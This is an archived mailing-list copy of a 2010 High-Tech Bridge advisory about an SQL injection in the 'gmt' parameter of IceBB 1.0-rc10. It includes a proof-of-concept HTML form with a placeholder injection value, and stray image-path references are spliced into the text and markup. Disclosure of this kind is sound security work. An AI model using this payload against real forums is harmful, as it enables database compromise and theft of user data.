[Date Prev][Date Next][Thread Prev][Thread Next][Date Index][Thread Index]

SQL injection in IceBB

Vulnerability ID: HTB22688
Reference: http://www.htbridge.ch/advisory/sql_injection_in_icebb.html
Product: IceBB
Vendor: XAOS Interactive ( http://icebb.net/ )
Vulnerable Version: 1.0-rc10
Vendor Notification: 02 November 2010
Vulnerability Type: SQL Injection
Status: Not Fixed, Vendor Alerted, Awaiting Vendor Response
Risk level: High
Credit: High-Tech Bridge SA - Ethical Hacking & Penetration Testing (http://www.htbridge.ch/)

Vulnerability Details:
The vulnerability exists due to failure in the "/index.php" script to properly sanitize user-supplied input in "gmt" variable.
Attacker can alter queries to the application SQL database, execute arbitrary queries to the database, compromise the application, access or modify sensitive data, or exploit variousvulnerabilities in the underlying SQL database.

The following PoC is available:

<form action="http://[host]/index.php"; method="post" >
<input type="hidden" name="act" value="login" />
<input type="hidden" name="func" value="Register" />
<input type="hidden" name="terms" value="1" />
<input type="hidden" name="user"value="pentest" />
<inputtype="hidden" name="pass" value="pentest" />
<input type="hidden" name="pass2" value="pentest" />
<input type="hidden" name="email" value="pentest@xxxxxxxxxxx" />
<input type="hidden" name="captcha_code"value="[captcha_code]" /><input type="hidden" name="captcha_word" value="[captcha_word]" />
<inputtype="hidden" name="gmt"value="'SQL_CODE_HERE" />
<input type="submit" value="Register" name="submit" />